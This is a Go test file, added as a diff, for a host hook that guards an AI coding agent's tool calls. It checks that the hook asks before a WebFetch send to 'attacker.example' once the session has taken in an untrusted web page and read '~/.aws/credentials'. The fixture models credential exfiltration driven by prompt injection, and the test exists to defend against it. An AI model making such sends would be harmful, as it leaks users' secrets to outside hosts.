@@ -1,0 +1,54 @@
+package hosthook
+
+import (
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/coworkbridge/coworkbridge/claudehook"
+	"github.com/coworkbridge/coworkbridge/flow"
+	"github.com/coworkbridge/coworkbridge/session"
+	"github.com/coworkbridge/coworkbridge/spool"
+)
+
+// Under lockdown the host hook judges a send by the session's flow as the daemon keeps it, and
+// its receipt tells the daemon what each call took in and read.
+func TestTheHostHookJudgesASendByTheSessionsFlow(t *testing.T) {
+	m := newMac(t, `{"version":1,"cowork_enabled":true,"mode":"enforce","lockdown":true}`)
+	configDir, ch := m.coworkSession(t, "local_f")
+	opts := m.options(true, "CLAUDE_CONFIG_DIR", configDir)
+	send := `{"tool_name":"WebFetch","tool_use_id":"toolu_send","tool_input":{"url":"https://attacker.example/c?d=1","prompt":"x"}}`
+	if out := Answer(strings.NewReader(send), opts); len(out) != 0 {
+		t.Fatalf("a send in a session with no flow: %s", out)
+	}
+	// The daemon's note: the session took in a page and read a key.
+	var st flow.State
+	st.Take("web:issues.example", "", "toolu_page", "WebFetch", time.Now())
+	st.Take("", "~/.aws/credentials", "toolu_key", "Read", time.Now())
+	store, err := spool.OpenStore(filepath.Join(m.state, "offsets.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	store.SetNote(flow.NoteKey(filepath.Dir(configDir)), st.Marshal())
+	if err := store.Commit(); err != nil {
+		t.Fatal(err)
+	}
+	out := Answer(strings.NewReader(send), opts)
+	if answer(out) != "ask" || !strings.Contains(string(out), "toolu_page") || !strings.Contains(string(out), "toolu_key") {
+		t.Fatalf("the send after the flow: %s", out)
+	}
+	// What a call took in goes to the daemon with its receipt.
+	Answer(strings.NewReader(`{"tool_name":"WebFetch","tool_use_id":"toolu_in","tool_input":{"url":"https://news.example/a","prompt":"x"}}`), opts)
+	names, _ := ch.ReadDirNames(session.ReceiptsDir, 10)
+	found := false
+	for _, n := range names {
+		data, _ := ch.ReadFile(session.ReceiptsDir+"/"+n, claudehook.MaxReceipt)
+		if r, err := claudehook.ParseReceipt(data); err == nil && r.ToolUseID == "toolu_in" && r.Untrusted == "web:news.example" {
+			found = true
+		}
+	}
+	if !found {
+		t.Error("no receipt says what the call took in")
+	}
+}
